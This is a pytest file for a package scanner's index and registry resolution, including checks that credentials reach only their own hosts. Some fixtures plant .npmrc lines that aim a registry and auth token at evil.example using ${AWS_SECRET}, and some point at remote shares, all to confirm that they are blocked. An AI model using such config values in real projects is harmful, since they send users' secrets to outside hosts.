"""Which indexes apply, and where the user's secrets may go."""

from __future__ import annotations

import base64
import sys
from pathlib import Path

import pytest
from entries import manifest, npm, pypi
from loopback_registry import LoopbackRegistry, packument
from msgspec.structs import replace
from python_index import build_sdist, build_wheel

from scanner.model import GapKind, Manifest
from scanner.registries import Index, Registries
from scanner.registries.sources import Sources, default_index
from scanner.settings import Settings


@pytest.fixture
def plain(settings: Settings) -> Settings:
    """Settings that leave the indexes to the tools' configuration."""
    return replace(settings, index_url=None, npm_registry=None)


def indexes(settings: Settings, environment: dict[str, str], asked: Manifest) -> list[Index]:
    return list(Sources(settings, environment).of(asked.file, asked.requirements[0]))


def urls(settings: Settings, environment: dict[str, str], asked: Manifest) -> list[str]:
    return [index.url for index in indexes(settings, environment, asked)]


def header(user: str, password: str) -> str:
    return "Basic " + base64.b64encode(f"{user}:{password}".encode()).decode()


def test_without_configuration_the_public_indexes_are_asked(
    plain: Settings, environment: dict[str, str]
) -> None:
    from packageurl.validate import NpmTypeDefinition, PypiTypeDefinition

    (python,) = urls(plain, environment, manifest(pypi("alpha")))
    assert python == PypiTypeDefinition.default_repository_url.rstrip("/") + "/simple"
    (javascript,) = urls(plain, environment, manifest(npm("alpha")))
    assert javascript == NpmTypeDefinition.default_repository_url.rstrip("/")


def test_pip_is_read_in_its_own_order(plain: Settings, environment: dict[str, str], tmp_path: Path) -> None:
    del environment["PIP_CONFIG_FILE"]
    user = Path(environment["HOME"]) / ".config" / "pip" / "pip.conf"
    user.parent.mkdir(parents=True)
    user.write_text(
        "[global]\nindex_url = https://user.example/simple\nextra-index-url =\n  https://one.example/simple\n"
        "  https://two.example/simple/\ntrusted-host = one.example\n[install]\ncert = /ca.pem\n"
    )
    found = indexes(plain, environment, manifest(pypi("alpha")))
    by_url = {index.url: index for index in found}  # this machine's own /etc/pip.conf may add more
    assert "https://user.example/simple" in by_url
    assert by_url["https://one.example/simple"].route.verify is False
    assert by_url["https://two.example/simple"].route.verify is True
    assert by_url["https://two.example/simple"].route.ca_file == "/ca.pem"
    chosen = tmp_path / "chosen.conf"
    chosen.write_text("[global]\nindex-url = https://chosen.example/simple\n")
    environment |= {"PIP_CONFIG_FILE": str(chosen), "PIP_EXTRA_INDEX_URL": "https://env.example/simple"}
    assert urls(plain, environment, manifest(pypi("alpha"))) == [
        "https://chosen.example/simple",
        "https://env.example/simple",
    ]
    environment["PIP_INDEX_URL"] = "https://env-main.example/simple"
    assert urls(plain, environment, manifest(pypi("alpha")))[0] == "https://env-main.example/simple"


def test_a_broken_configuration_is_a_gap(
    plain: Settings, environment: dict[str, str], tmp_path: Path
) -> None:
    broken = tmp_path / "pip.conf"
    broken.write_text("index-url = no section\n")
    environment["PIP_CONFIG_FILE"] = str(broken)
    (gap,) = Registries(plain, environment=environment).gaps
    assert (gap.kind, gap.subject) == (GapKind.CONFIGURATION, str(broken))


def test_the_options_of_a_requirements_file(
    plain: Settings, environment: dict[str, str], project: Path
) -> None:
    environment["PIP_EXTRA_INDEX_URL"] = "https://corp.example/simple"
    asked = manifest(
        pypi("alpha"),
        index_url="https://mine.example/simple/",
        extra_index_urls=("https://more.example/simple",),
        find_links=("wheels",),
    )
    assert urls(plain, environment, asked) == [
        "https://corp.example/simple",
        "https://mine.example/simple",
        "https://more.example/simple",
        (project / "wheels").as_uri(),
    ]
    assert urls(plain, environment, manifest(pypi("alpha"), no_index=True)) == []
    environment["PIP_NO_INDEX"] = "1"
    assert urls(plain, environment, asked) == [(project / "wheels").as_uri()]


def test_the_given_index_stands_in_for_all_that_is_configured(
    settings: Settings, environment: dict[str, str]
) -> None:
    environment |= {"PIP_INDEX_URL": "https://corp.example/simple", "PIP_FIND_LINKS": "/nowhere"}
    asked = manifest(pypi("alpha"), index_url=default_index(pypi("alpha").package.ecosystem) + "/")
    assert urls(settings, environment, manifest(pypi("alpha"))) == [settings.index_url]
    assert urls(settings, environment, asked) == [settings.index_url]
    private = manifest(pypi("alpha"), index_url="https://private.example/simple")
    assert urls(settings, environment, private) == ["https://private.example/simple"]


def test_uv_and_pinned_indexes(plain: Settings, environment: dict[str, str], tmp_path: Path) -> None:
    file = tmp_path / "uv.toml"
    file.write_text(
        '[[index]]\nname = "corp"\nurl = "https://corp.example/simple"\ndefault = true\n'
        '[[index]]\nname = "torch"\nurl = "https://torch.example/whl"\nexplicit = true\n'
        '[[index]]\nurl = "https://plain.example/simple"\n'
    )
    del environment["UV_NO_CONFIG"]
    environment |= {
        "UV_CONFIG_FILE": str(file),
        "UV_INDEX_TORCH_USERNAME": "u",
        "UV_INDEX_TORCH_PASSWORD": "p",
    }
    assert urls(plain, environment, manifest(pypi("alpha"))) == [
        "https://corp.example/simple",
        "https://plain.example/simple",
    ]
    (torch,) = indexes(plain, environment, manifest(pypi("alpha", index="torch")))
    assert (torch.url, torch.authorization) == ("https://torch.example/whl", header("u", "p"))
    environment["UV_INDEX_URL"] = "https://env.example/simple"
    assert urls(plain, environment, manifest(pypi("alpha")))[0] == "https://env.example/simple"
    named = manifest(pypi("alpha", index="mine"), named_indexes=(("mine", "https://mine.example/simple"),))
    assert urls(plain, environment, named) == ["https://mine.example/simple"]
    (unknown,) = indexes(plain, environment, manifest(pypi("alpha", index="nobody")))
    assert "no index named 'nobody'" in unknown.trouble


def test_netrc_goes_only_where_it_belongs(plain: Settings, environment: dict[str, str]) -> None:
    netrc = Path(environment["HOME"]) / ".netrc"
    netrc.write_text("machine corp.example login ada password secret\n")
    environment["PIP_INDEX_URL"] = "https://corp.example/simple"
    (index,) = indexes(plain, environment, manifest(pypi("alpha")))
    assert index.authorization == header("ada", "secret")
    assert "secret" not in repr(index)
    assert index.authorization not in repr(index)
    others = manifest(
        pypi("alpha"), extra_index_urls=("http://corp.example/other", "https://evil.example/simple")
    )
    _, clear, evil = indexes(plain, environment, others)
    assert (clear.authorization, evil.authorization) == ("", "")


def test_the_users_own_login_serves_the_same_index_in_a_file(
    plain: Settings, environment: dict[str, str]
) -> None:
    environment["PIP_INDEX_URL"] = "https://ada:secret@corp.example/simple"
    (index,) = indexes(plain, environment, manifest(pypi("alpha"), index_url="http://corp.example/simple/"))
    assert (index.url, index.authorization) == ("https://corp.example/simple", header("ada", "secret"))
    (other,) = indexes(
        plain, environment, manifest(pypi("alpha"), index_url="https://corp.example/elsewhere")
    )
    assert other.authorization == ""


def test_npmrc(plain: Settings, environment: dict[str, str], project: Path) -> None:
    user = Path(environment["HOME"]) / ".npmrc"
    user.write_text(
        "registry=https://corp.example/npm/\n@mine:registry = 'https://mine.example'\ncafile=/ca.pem\n"
        "//corp.example/npm/:_authToken=${TOKEN}\n; a comment = no\n"
        f"//mine.example/:username=ada\n//mine.example/:_password={base64.b64encode(b'secret').decode()}\n"
    )
    environment["TOKEN"] = "t0k3n"
    (index,) = indexes(plain, environment, manifest(npm("alpha")))
    assert (index.url, index.authorization) == ("https://corp.example/npm", "Bearer t0k3n")
    assert index.route.ca_file == "/ca.pem"
    (scoped,) = indexes(plain, environment, manifest(npm("@mine/alpha")))
    assert (scoped.url, scoped.authorization) == ("https://mine.example", header("ada", "secret"))
    (project / ".npmrc").write_text("@other:registry=https://other.example/\n")
    assert urls(plain, environment, manifest(npm("@other/alpha"))) == ["https://other.example"]
    assert urls(plain, environment, manifest(npm("alpha"))) == ["https://corp.example/npm"]
    stand_in = replace(plain, npm_registry="http://127.0.0.1:1/npm")
    assert urls(stand_in, environment, manifest(npm("alpha"))) == ["http://127.0.0.1:1/npm"]
    assert urls(stand_in, environment, manifest(npm("@other/alpha"))) == ["https://other.example"]


def test_a_scanned_project_cannot_spend_the_users_secrets(
    plain: Settings, environment: dict[str, str], project: Path
) -> None:
    environment |= {"TOKEN": "t0k3n", "AWS_SECRET": "s3cret"}
    Path(environment["HOME"], ".npmrc").write_text(
        "@corp:registry=https://corp.example/\n//corp.example/:_authToken=${TOKEN}\n"
    )
    (project / ".npmrc").write_text(
        "registry=https://evil.example/${AWS_SECRET}/\n//evil.example/:_authToken=${AWS_SECRET}\n"
        "@corp:registry=http://corp.example/\n"
    )
    for name in ("alpha", "@corp/alpha"):
        (index,) = indexes(plain, environment, manifest(npm(name)))
        assert index.authorization == ""
        assert "s3cret" not in repr(index) + index.url
    (index,) = indexes(plain, environment, manifest(npm("alpha")))
    assert "variable" in index.trouble
    (project / ".npmrc").write_text(
        "registry=https://evil.example/\n//evil.example/:_authToken=${AWS_SECRET}\n"
    )
    (index,) = indexes(plain, environment, manifest(npm("alpha")))
    assert (index.url, index.authorization, index.trouble) == ("https://evil.example", "", "")


def test_a_token_of_the_environment_serves_the_users_own_host(
    plain: Settings, environment: dict[str, str], project: Path
) -> None:
    environment |= {"TOKEN": "t0k3n", "npm_config_registry": "https://corp.example/"}
    (project / ".npmrc").write_text("//corp.example/:_authToken=${TOKEN}\n")
    (index,) = indexes(plain, environment, manifest(npm("alpha")))
    assert index.authorization == "Bearer t0k3n"


def test_local_indexes(plain: Settings, environment: dict[str, str], project: Path) -> None:
    index = project / "index"
    for folder in ("with-page", "with-wheels"):
        (index / folder).mkdir(parents=True)
    (index / "with-page" / "index.html").write_text(
        '<a href="../f/with_page-1.0.tar.gz" data-yanked="broken" data-requires-python="&gt;=3.8">x</a>'
        '<a href="../f/with_page-1.1.win32-py2.7.exe">x</a>'
    )
    build_wheel(index / "with-wheels", "with-wheels", "2.0")
    links = project / "links"
    links.mkdir()
    build_sdist(links, "in-links", "3.0")
    environment["PIP_INDEX_URL"] = index.as_uri()
    registries = Registries(plain, environment=environment)
    names = ("with-page", "with-wheels", "in-links", "nowhere")
    asked = manifest(*(pypi(name) for name in names), find_links=("links",))
    questions = [registries.question(asked.file, entry) for entry in asked.requirements]
    answers = registries.ask(questions)
    page, wheels, linked, nowhere = (answers[question] for question in questions)
    releases = [(release.version, release.yanked, release.requires_python) for release in page.releases]
    assert releases == [("1.1", None, ""), ("1.0", "broken", ">=3.8")]
    assert [release.version for release in wheels.releases] == ["2.0"]
    assert [release.version for release in linked.releases] == ["3.0"]
    assert nowhere.exists is False
    only_links = manifest(pypi("nowhere"), find_links=("links",), no_index=True)
    question = registries.question(only_links.file, only_links.requirements[0])
    assert registries.ask([question])[question].exists is None
    environment["PIP_INDEX_URL"] = (project / "gone").as_uri()
    registries = Registries(plain, environment=environment)
    question = registries.question(manifest().file, pypi("alpha"))
    answer = registries.ask([question])[question]
    assert answer.exists is None
    assert "could not be read" in answer.problem


@pytest.mark.parametrize("place", ["//evil.example/share", "\\\\evil.example\\share"])
def test_a_folder_of_another_machine_is_not_opened(
    plain: Settings, environment: dict[str, str], place: str
) -> None:
    (index,) = indexes(plain, environment, manifest(pypi("alpha"), no_index=True, find_links=(place,)))
    assert "another machine" in index.trouble


def test_a_find_links_page_is_fetched_once(
    registry: LoopbackRegistry, settings: Settings, environment: dict[str, str]
) -> None:
    registry.python = {"alpha": ["1.0"], "beta": ["2.0"]}
    registries = Registries(settings, environment=environment)
    page = f"{registry.address}/links/"
    asked = manifest(pypi("alpha"), pypi("beta"), no_index=True, find_links=(page,))
    questions = [registries.question(asked.file, entry) for entry in asked.requirements]
    answers = registries.ask(questions)
    assert [answers[question].releases[0].version for question in questions] == ["1.0", "2.0"]
    assert sum(registry.asked.values()) == 1


def test_every_index_must_say_no(
    registry: LoopbackRegistry, settings: Settings, environment: dict[str, str]
) -> None:
    with LoopbackRegistry(python={"alpha": ["5.0"]}) as other:
        registry.python = {"alpha": ["1.0"], "gamma": ["1.0"]}
        asked = manifest(pypi("alpha"), pypi("beta"), extra_index_urls=(other.index_url,))
        registries = Registries(settings, environment=environment)
        alpha, beta = (registries.question(asked.file, entry) for entry in asked.requirements)
        answers = registries.ask([alpha, beta])
        assert {release.version for release in answers[alpha].releases} == {"1.0", "5.0"}
        assert answers[beta].exists is False
        other.faults = {"gamma": ("503", -1), "delta": ("403", -1)}
        gamma, delta = (registries.question(asked.file, pypi(name)) for name in ("gamma", "delta"))
        answers = registries.ask([gamma, delta])
        assert answers[gamma].exists is True
        assert "503" in answers[gamma].problem
        assert answers[delta].exists is None


def test_html_only_indexes(
    registry: LoopbackRegistry, settings: Settings, environment: dict[str, str]
) -> None:
    registry.html_only = True
    registry.python = {"alpha-one": ["1.0", "2.0b1"], "empty": []}
    registries = Registries(settings, environment=environment)
    questions = [registries.question(manifest().file, pypi(name)) for name in ("alpha-one", "empty")]
    answers = registries.ask(questions)
    assert [release.version for release in answers[questions[0]].releases] == ["2.0b1", "1.0"]
    assert (answers[questions[1]].exists, answers[questions[1]].releases) == (True, ())


def test_the_keyring_is_asked_after_a_401(
    registry: LoopbackRegistry,
    settings: Settings,
    environment: dict[str, str],
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    (tmp_path / "keyring.py").write_text(
        "class Found:\n    username, password = 'ada', 'secret'\n"
        "def get_credential(url, user):\n    return Found if url.startswith('http://127.0.0.1') else None\n"
    )
    monkeypatch.syspath_prepend(str(tmp_path))
    monkeypatch.delitem(sys.modules, "keyring", raising=False)
    registry.python = {"alpha": ["1.0"]}
    registry.faults = {"alpha": ("401", 1)}
    registries = Registries(settings, environment=environment)
    question = registries.question(manifest().file, pypi("alpha"))
    try:
        answer = registries.ask([question])[question]
    finally:
        sys.modules.pop("keyring", None)
    assert answer.exists is True
    assert registry.log[-1].headers["authorization"] == header("ada", "secret")


def test_npm_answers_of_a_scope(
    registry: LoopbackRegistry, plain: Settings, environment: dict[str, str], project: Path
) -> None:
    registry.npm = {"@mine/alpha": packument("@mine/alpha", ["1.0.0"])}
    (project / ".npmrc").write_text(f"@mine:registry={registry.npm_url}\n//127.0.0.1/:_authToken=own\n")
    registries = Registries(plain, environment=environment)
    question = registries.question(manifest(npm("@mine/alpha")).file, npm("@mine/alpha"))
    assert registries.ask([question])[question].exists is True
    assert "authorization" not in registry.log[0].headers  # the token is for another port
